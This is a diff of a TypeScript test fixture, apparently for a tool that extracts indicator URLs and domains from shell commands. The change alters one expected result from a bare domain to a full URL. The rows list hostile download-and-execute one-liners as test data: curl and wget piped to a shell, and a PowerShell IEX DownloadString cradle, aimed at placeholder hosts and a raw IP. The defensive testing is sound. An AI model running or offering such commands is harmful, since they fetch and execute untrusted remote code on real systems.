@@ -7,7 +7,7 @@ export const code: Row[] = [
     'url https://api.baddomain.com/v1/users',
   ],
   ['curl -s http://91.92.240.17/x.sh | bash', 'url http://91.92.240.17/x.sh'],
-  ['wget -qO- baddomain.com/i.sh|sh', 'domain baddomain.com'],
+  ['wget -qO- baddomain.com/i.sh|sh', 'url http://baddomain.com/i.sh'],
   [
     "IEX (New-Object Net.WebClient).DownloadString('http://baddomain.com/a.ps1')",
     'url http://baddomain.com/a.ps1',
